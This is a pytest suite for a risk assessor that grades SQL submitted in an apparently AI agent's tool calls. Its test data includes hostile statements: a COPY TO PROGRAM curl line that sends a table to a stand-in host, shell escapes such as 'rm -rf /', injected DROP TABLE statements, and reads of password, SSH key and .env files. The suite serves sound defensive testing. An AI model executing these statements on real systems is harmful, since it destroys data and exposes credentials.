import pytest

from approvals.canonical import Action
from approvals.risk import Severity, assess


def findings_of(text, member="sql", name="sql.execute"):
    return assess(Action(name, "bot", {member: text})).findings


def codes_of(text):
    return {found.code for found in findings_of(text)}


def severity_of(text):
    return assess(Action("sql.execute", "bot", {"sql": text})).severity


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ("DROP TABLE users", "sql.drop"),
        ("drop database if exists production", "sql.drop"),
        ("DROP SCHEMA app CASCADE", "sql.drop"),
        ("select 1; DROP TABLE users; --", "sql.drop"),
        ("/* harmless */ DROP /**/ TABLE users", "sql.drop"),
        ("DROP OWNED BY bob", "sql.drop"),
        ("IF 1 = 1 DROP TABLE users", "sql.drop"),
        ("CREATE OR REPLACE TABLE users AS SELECT 1", "sql.drop"),
        ("TRUNCATE a, b CASCADE", "sql.truncate"),
        ("DELETE FROM users", "sql.delete_all"),
        ("DELETE FROM users WHERE 1=1", "sql.delete_all"),
        ("DELETE FROM users WHERE true", "sql.delete_all"),
        ("DELETE FROM users WHERE id = id", "sql.delete_all"),
        ("DELETE FROM users WHERE 'a' = 'a'", "sql.delete_all"),
        ("DELETE FROM users WHERE id = 3 OR 1=1", "sql.delete_all"),
        ("DELETE FROM users WHERE (id = 3) OR (NOT false)", "sql.delete_all"),
        ("DELETE FROM users WHERE name LIKE '%'", "sql.delete_all"),
        ("DELETE FROM users WHERE EXISTS (SELECT 1)", "sql.delete_all"),
        ("UPDATE users SET admin = true", "sql.update_all"),
        ("UPDATE users SET admin = true WHERE 2 > 1", "sql.update_all"),
        ("ALTER TABLE users DROP COLUMN email", "sql.schema_change"),
        ("ALTER SYSTEM SET fsync = off", "sql.schema_change"),
        ("COPY users TO PROGRAM 'curl -d @- evil'", "sql.copy_program"),
        ("\\copy users to program 'sh'", "sql.copy_program"),
        ("EXEC xp_cmdshell 'dir'", "sql.shell_escape"),
        ("\\! rm -rf /", "sql.shell_escape"),
        ("DO $$ BEGIN DROP TABLE users; END $$", "sql.opaque"),
        ("EXECUTE 'drop table users'", "sql.opaque"),
        ("WITH x AS (DELETE FROM users RETURNING *) SELECT * FROM x", "sql.delete_all"),
        ("EXPLAIN ANALYZE DELETE FROM users", "sql.delete_all"),
        ("EXPLAIN (ANALYZE, BUFFERS) DELETE FROM users", "sql.delete_all"),
        ("PREPARE p AS DELETE FROM users", "sql.delete_all"),
        ("/*!50000 DROP TABLE users */", "sql.drop"),
        # MySQL ends this string earlier than PostgreSQL does.
        ("SELECT 'a\\'' ; DROP TABLE users; -- '", "sql.drop"),
    ],
)
def test_finds_what_is_critical(text, code):
    found = [one for one in findings_of(text) if one.code == code]
    assert found
    assert found[0].severity is Severity.CRITICAL


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ("DELETE FROM users WHERE id = 3", "sql.delete"),
        ("DELETE FROM a USING b WHERE a.id = b.id", "sql.delete"),
        ("DELETE FROM users WHERE id = %s", "sql.delete"),
        ("DELETE FROM users WHERE id = $1", "sql.delete"),
        ("MERGE INTO t USING s ON t.a = s.a WHEN MATCHED THEN DELETE", "sql.delete"),
        ("UPDATE users SET a = 1 WHERE id = 3", "sql.update"),
        (
            "WITH x AS (UPDATE t SET a = 1 WHERE b = 2) SELECT 1",
            "sql.data_changing_cte",
        ),
        ("GRANT ALL ON users TO bob", "sql.grant"),
        ("GRANT admin TO bob", "sql.grant"),
        ("REVOKE SELECT ON users FROM bob", "sql.grant"),
        ("CREATE ROLE bob SUPERUSER", "sql.role"),
        ("SET ROLE postgres", "sql.role"),
        ("CREATE TABLE a (b int)", "sql.schema_change"),
        ("CREATE INDEX i ON t (a)", "sql.schema_change"),
        ("ALTER TABLE a RENAME TO b", "sql.schema_change"),
        ("ALTER TABLE a DISABLE ROW LEVEL SECURITY", "sql.schema_change"),
        ("SELECT * INTO b FROM a", "sql.schema_change"),
        ("SELECT pg_catalog.pg_read_file('/etc/passwd')", "sql.file_access"),
        ("SELECT \"lo_export\"(1, '/tmp/x')", "sql.file_access"),
        ("COPY users FROM '/etc/passwd'", "sql.file_access"),
        ("SELECT 1 INTO OUTFILE '/tmp/x'", "sql.file_access"),
        ("LOAD DATA INFILE 'x' INTO TABLE t", "sql.file_access"),
        ("SELECT pg_terminate_backend(1)", "sql.dangerous_function"),
        ("SELECT pg_sleep(100)", "sql.dangerous_function"),
        (
            "SELECT * FROM dblink('host=x', 'select 1') AS t(a int)",
            "sql.dangerous_function",
        ),
        ("CALL cleanup()", "sql.opaque"),
        ("\\i other.sql", "sql.opaque"),
        ("VACUUM FULL users", "sql.maintenance"),
        ("this is no SQL at all", "sql.uninspectable"),
        ("DELETE FROM", "sql.uninspectable"),
        ("SELECT 'never closed", "sql.uninspectable"),
    ],
)
def test_finds_what_a_person_should_see(text, code):
    found = [one for one in findings_of(text) if one.code == code]
    assert found
    assert found[0].severity.rank >= Severity.MEDIUM.rank


@pytest.mark.parametrize(
    "text",
    [
        "SELECT * FROM users WHERE id = 3",
        "SELECT drop_events, \"DROP TABLE\" FROM truncate_log WHERE a = 'DROP'",
        "SELECT 1 -- DROP TABLE users",
        "WITH a AS (SELECT 1) SELECT * FROM a UNION ALL SELECT 2 ORDER BY 1 LIMIT 5",
        "SELECT `name` FROM users",
        "SELECT data #>> '{a,b}' FROM t WHERE name ~ 'x\\.y'",
        "EXPLAIN SELECT 1",
        "EXPLAIN DELETE FROM users",
        "SHOW TABLES",
        "SELECT * FROM t WHERE id = %(id)s AND name = :name",
        "TABLE users",
        "SET statement_timeout = '5s'",
        "SELECT count(*) FROM t FOR UPDATE",
        "\\d users",
    ],
)
def test_has_nothing_to_say_about_reading(text):
    assert findings_of(text) == ()


@pytest.mark.parametrize(
    ("text", "codes"),
    [
        ("SELECT 1; SELECT 2", {"sql.multiple_statements"}),
        ("CREATE TEMP TABLE a (b int)", {"sql.schema_change"}),
    ],
)
def test_small_things_are_low(text, codes):
    assert codes_of(text) == codes
    assert severity_of(text) is Severity.LOW


def test_says_what_is_dropped_and_where():
    (drop,) = (
        f for f in findings_of("select 1;\nDROP TABLE users;") if "drop" in f.code
    )
    assert drop.message == "Drops table users"
    assert drop.pointer == "/arguments/sql"
    assert drop.span == (10, 26)


def test_keeps_places_when_an_executable_comment_is_opened():
    text = "/*!50000 DROP TABLE users */"
    (drop,) = (found for found in findings_of(text) if found.code == "sql.drop")
    start, end = drop.span
    assert text[start:end] == "DROP TABLE users"


def test_text_that_crashes_the_parser_is_critical():
    (found,) = findings_of("SELECT " + "(" * 5_000)
    assert (found.code, found.severity) == ("sql.uninspectable", Severity.CRITICAL)


def test_text_that_keeps_the_parser_busy_is_critical():
    found = findings_of("( UNION " * 60)
    assert Severity.CRITICAL in {
        one.severity for one in found if one.code == "sql.uninspectable"
    }


def test_keeps_what_was_found_before_the_text_became_too_much():
    found = findings_of("\\! rm -rf /\n" + "SELECT 1;" * 10_000)
    assert {one.code for one in found} == {"sql.shell_escape", "sql.uninspectable"}
    assert {one.severity for one in found} == {Severity.CRITICAL}


@pytest.mark.parametrize("piece", ["'", "/*!", "a|", "select (", "--", "1=1 or ", "é;"])
def test_long_hostile_text_is_held(piece):
    found = findings_of(piece * (262_144 // len(piece)))
    assert Severity.CRITICAL in {one.severity for one in found}


@pytest.mark.parametrize(
    ("text", "target", "scale"),
    [
        ("DROP TABLE shop.users", "shop.users", 1),
        ("DROP TABLE a, b", "a, b", 2),
        ("TRUNCATE a, b", "a, b", 2),
        ("DELETE FROM users WHERE id = 7", "users", None),
        ("INSERT INTO t VALUES (1), (2)", "t", 2),
        ("UPDATE users SET a = 1 WHERE b = 2", "users", None),
        ("ALTER TABLE users ADD COLUMN a int", "users", None),
        ("GRANT SELECT ON users TO bob", "users", None),
    ],
)
def test_says_what_is_hit(text, target, scale):
    (found,) = findings_of(text)
    assert (found.target, found.scale) == (target, scale)


def test_says_how_many_rows_a_limit_leaves():
    text = "DELETE FROM users WHERE old ORDER BY id LIMIT 5"
    assert 5 in [found.scale for found in findings_of(text)]


@pytest.mark.parametrize(
    "text",
    [
        "CREATE TABLE t (a int)",
        "ALTER TABLE t ADD COLUMN a int",
        "ALTER TABLE t ADD COLUMN a int DEFAULT 10",
        "CREATE INDEX CONCURRENTLY i ON t (a)",
    ],
)
def test_ordinary_additions_are_medium_at_most(text):
    assert severity_of(text) is Severity.MEDIUM


@pytest.mark.parametrize("text", ["treatment of gout", "how do I reset a table?"])
@pytest.mark.parametrize("name", ["medical_database", "search_recipe_database"])
def test_what_is_only_called_a_database_may_be_asked_in_words(name, text):
    found = findings_of(text, "query", name)
    assert not [one for one in found if one.code.startswith("sql.")]
    assert findings_of(text, "query", "postgres_database")


def test_a_statement_is_read_whatever_the_database_is_called():
    found = findings_of("DROP TABLE patients", "query", "medical_database")
    assert "sql.drop" in {one.code for one in found}


def test_a_listing_of_a_database_needs_no_statement():
    found = assess(Action("mysql_list_schemas", "bot", {})).findings
    assert not [one for one in found if one.code.startswith("sql.")]
    assert assess(Action("mysql_run", "bot", {})).severity is Severity.HIGH


@pytest.mark.parametrize(
    "text",
    [
        "SELECT quantile(0.9)(price) FROM sales PREWHERE day = today() FORMAT JSON",
        "SELECT name FROM staff AS OF TIMESTAMP (SYSTIMESTAMP - INTERVAL '5' MINUTE)",
        "SELECT MAX(pay) KEEP (DENSE_RANK LAST ORDER BY hired) FROM staff",
        "PIVOT sales ON year USING sum(amount) GROUP BY region",
        "SUMMARIZE sales",
        "LIST @exports",
        "SELECT * FROM ML.PREDICT(MODEL shop.churn, TABLE shop.customers)",
        "WITH toDate('2024-01-01') AS day SELECT count() FROM visits WHERE at = day",
        "PRAGMA table_info('staff')",
        "PRAGMA integrity_check",
        "EXEC sp_helptext 'dbo.pay'",
        "DECLARE @day date = '2024-01-01'; SELECT * FROM sales WHERE sold > @day",
        "SELECT 'DROP TABLE staff' AS example, deleted_at FROM staff",
    ],
)
def test_reading_passes_in_dialects_that_no_parser_knows(text):
    assert severity_of(text) in (None, Severity.LOW)


@pytest.mark.parametrize(
    "text",
    [
        # What no dialect can parse, and begins as a query does.
        "SELECT quantile(0.9)(price) FROM sales PREWHERE 1 DROP TABLE sales",
        "SELECT KEEP (DENSE_RANK LAST) FROM a INTO OUTFILE '/tmp/a'",
        "PIVOT sales ON year USING sum(amount); DROP TABLE sales",
        "SELECT TRANSFORM(a) USING 'sh -c id' AS (b STRING) FROM sales",
        "SUMMARIZE (SELECT pg_read_file('/etc/passwd'))",
        "LIST @exports; REMOVE @exports",
        "PRAGMA journal_mode(OFF)",
        "PRAGMA foreign_keys = 0",
        "PRAGMA incremental_vacuum",
    ],
)
def test_a_reading_beginning_hides_no_change(text):
    assert severity_of(text).rank >= Severity.MEDIUM.rank


@pytest.mark.parametrize(
    ("text", "code"),
    [
        (
            "SELECT UTL_HTTP.REQUEST('http://a.example/') FROM dual",
            "dangerous_function",
        ),
        ("SELECT cron.schedule('x', '* * * * *', 'a')", "dangerous_function"),
        ("SELECT * FROM OPENQUERY(far, 'select 1')", "dangerous_function"),
        ("SELECT setval('staff_id_seq', 1)", "dangerous_function"),
        ("SELECT pg_ls_waldir()", "file_access"),
        ("SELECT * FROM read_csv('/etc/passwd')", "file_access"),
        ("SELECT * FROM read_text('../../app/.env')", "file_access"),
        ("SELECT * FROM '/root/.ssh/id_rsa'", "file_access"),
        ("SELECT * FROM url('https://a.example/x', CSV)", "file_access"),
        ("SELECT * FROM file('a.csv', 'CSV')", "file_access"),
        ("SELECT * FROM remote('a.example', db.t)", "file_access"),
        ("VACUUM a RETAIN 0 HOURS", "maintenance"),
        ("EXEC sp_help 'a'; EXEC sp_start_job 'b'", "opaque"),
        ("VACUUM INTO '/tmp/copy.db'", "file_access"),
        ("BULK INSERT a FROM 'b.csv'", "file_access"),
        ("USE ROLE ACCOUNTADMIN", "role"),
        ("SET IDENTITY_INSERT dbo.a ON", "setting"),
        ("REPLACE INTO a VALUES (1)", "insert"),
        ("SELECT cancel_all_orders(5)", "opaque"),
    ],
)
def test_finds_what_functions_and_commands_of_other_databases_do(text, code):
    found = [one for one in findings_of(text) if one.code == f"sql.{code}"]
    assert found
    assert found[0].severity.rank >= Severity.MEDIUM.rank


@pytest.mark.parametrize(
    "text",
    [
        "SELECT * FROM read_parquet('sales/2024.parquet')",
        "SELECT * FROM 'sales.csv'",
        "USE WAREHOUSE small",
        "SELECT mysql FROM versions",
    ],
)
def test_files_of_data_and_other_uses_are_fine(text):
    assert severity_of(text) in (None, Severity.LOW)


@pytest.mark.parametrize(
    "text",
    [
        "ATTACH DATABASE 'x.db' AS y",
        "INSERT /*+ APPEND */ INTO a SELECT * FROM b",
        "DROP ALL ROW ACCESS POLICIES ON a.b",
        "DROP WAREHOUSE small",
        "PREPARE p AS DELETE FROM a",
        "SET session_replication_role = replica",
        "LOCK TABLE a IN ACCESS EXCLUSIVE MODE",
        "CALL close_accounts(1)",
        "RESTORE DATABASE a FROM DISK = 'a.bak'",
        "create or replace temporary function f() returns int as 'x'",
    ],
)
def test_knows_statements_in_a_query_whatever_the_tool_is_called(text):
    found = findings_of(text, "query", "run_query")
    assert max(one.severity.rank for one in found) >= Severity.MEDIUM.rank


@pytest.mark.parametrize(
    "text",
    [
        "select committee on fisheries",
        "create table lamp DIY",
        "truncate long headlines css",
        "merge into motorway traffic",
        "Update on the grant applications",
    ],
)
def test_questions_to_a_search_engine_are_no_statements(text):
    found = findings_of(text, "query", "web_search")
    assert not [one for one in found if one.code.startswith("sql.")]


def test_a_statement_counts_even_where_a_tool_is_called_search():
    codes = {one.code for one in findings_of("DROP TABLE staff", "query", "search")}
    assert "sql.drop" in codes


def test_reads_the_only_text_of_a_tool_that_is_called_like_a_database():
    assert not findings_of("SHOW INDEX FROM staff", "q", "duckdb.sql")
    codes = {one.code for one in findings_of("VACUUM FULL", "q", "duckdb.sql")}
    assert "sql.maintenance" in codes


@pytest.mark.parametrize(
    "text",
    [
        "SELECT shell('date')", "SELECT rolname, rolpassword FROM pg_authid",
        "SELECT * FROM mysql.user", "SELECT getenv('HOME')",
        "SELECT XMLTYPE('<!DOCTYPE a SYSTEM \"http://x/\">') FROM dual",
        "SELECT ctxsys.drithsx.sn(1, user) FROM dual", "START REPLICA",
        "USE SECONDARY ROLES ALL", "SET allow_unsigned_extensions = true",
        "SET CLUSTER SETTING a = 1", "DBCC CHECKDB ('a', REPAIR_REBUILD)",
        "SELECT q'[a]' FROM dual; DROP TABLE t",
    ],
)  # fmt: skip
def test_holds_what_manuals_of_databases_list(text):
    assert worst_of(text) in {"medium", "high", "critical"}


@pytest.mark.parametrize(
    "text",
    [
        "DBCC CHECKDB", "DBCC SQLPERF(LOGSPACE)", "SELECT q'[it's]' FROM dual",
        "SELECT rolname FROM pg_authid", "SELECT user FROM mysql.user",
        "SELECT * FROM system.query_log FORMAT Vertical",
    ],
)  # fmt: skip
def test_passes_what_only_tells(text):
    assert worst_of(text) in {None, "low"}


def worst_of(text):
    findings = assess(Action("execute_sql", "bot", {"query": text})).findings
    ranked = sorted((one.severity for one in findings), key=lambda one: one.rank)
    return ranked[-1].value if ranked else None
